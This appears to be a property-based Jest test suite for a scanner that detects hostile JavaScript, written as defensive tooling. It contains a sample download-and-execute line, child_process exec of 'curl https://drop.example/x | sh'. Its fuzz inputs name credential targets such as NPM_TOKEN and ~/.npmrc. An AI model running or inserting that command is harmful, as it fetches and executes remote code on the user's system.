/** The token reader takes any text there is: what defeats the parser comes here. */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { spotTokens } from '../../../src/code/js/tokens.ts';
import { readTokenScript } from '../../../src/code/token-scripts.ts';

const pieces = fc.constantFrom(
  ...[
    '"',
    "'",
    '`',
    '\\',
    '\\x',
    '\\u',
    '\\u{',
    '}',
    '${',
    '//',
    '/*',
    '*/',
    '\n',
    '\r',
    '\u2028',
    '+',
    '(',
    ')',
    '[',
    ']',
    '.',
    '?.',
    ',',
    ';',
    '=',
  ],
  ...[
    '#!',
    '<!--',
    '\0',
    '\ud800',
    '\udc00',
    'é',
    '\u200b',
    '66',
    '0x',
    'require',
    'process',
    'env',
    'eval',
    'Function',
    'fetch',
    'child_process',
    'exec',
  ],
  ...['https://a.example/', '~/.npmrc', 'import', 'from', 'atob', 'fromCharCode', 'constructor', '__proto__', 'toString', 'NPM_TOKEN', 'base64', ' '],
);
const text = fc.array(fc.oneof(pieces, pieces, fc.string({ maxLength: 4 })), { maxLength: 60 }).map((parts) => parts.join(''));

describe('the token reader', () => {
  it('takes any text: every place lies in it, the same text says the same', () => {
    fc.assert(
      fc.property(text, (source) => {
        const first = spotTokens(source);
        expect(spotTokens(source)).toEqual(first);
        for (const { at, detail } of first.spotted) {
          expect(at).toBeGreaterThanOrEqual(0);
          expect(at).toBeLessThanOrEqual(source.length);
          expect(typeof detail).toBe('string');
        }
      }),
      { seed: 20261123, numRuns: 2000 },
    );
  });

  it('does not lose a theft on a line of its own behind any text', () => {
    const theft = 'require("child_process").exec("curl https://drop.example/x | sh")';
    const wanted = (source: string) => spotTokens(source).spotted.some(({ kind }) => kind === 'process' || kind === 'download-execute');
    expect(wanted(theft)).toBe(true);
    fc.assert(
      fc.property(text, (before) => {
        // Open comments and templates make text of what follows: for JavaScript too.
        fc.pre(!/\/\*|`/.test(before));
        expect(wanted(`${before}\n${theft}`)).toBe(true);
      }),
      { seed: 7, numRuns: 1000 },
    );
  });

  it('takes texts of other languages', () => {
    fc.assert(
      fc.property(text, fc.constantFrom('powershell' as const, 'python' as const), (source, language) => {
        expect(Array.isArray(readTokenScript(source, language).files)).toBe(true);
      }),
      { seed: 11, numRuns: 1000 },
    );
  });

  it.each([
    ['quotes', '"'],
    ['templates', '`${'],
    ['backslashes', '\\'],
    ['texts put together', '"a"+'],
    ['open comments', '/*'],
    ['brackets', '(['],
    ['escapes', '"\\x4'],
  ])('grows with the text, not with its square: %s', (_case, piece) => {
    const steps = (length: number) => {
      const start = process.cpuUsage();
      spotTokens(piece.repeat(length));
      const { user, system } = process.cpuUsage(start);
      return user + system;
    };
    steps(2_000);
    // Sixteen times the text; a square would be 256 times the work. Least of three: the machine is shared.
    const least = (length: number) => Math.min(steps(length), steps(length), steps(length));
    expect(least(64_000)).toBeLessThan(100 * Math.max(least(4_000), 2_000));
  });
});
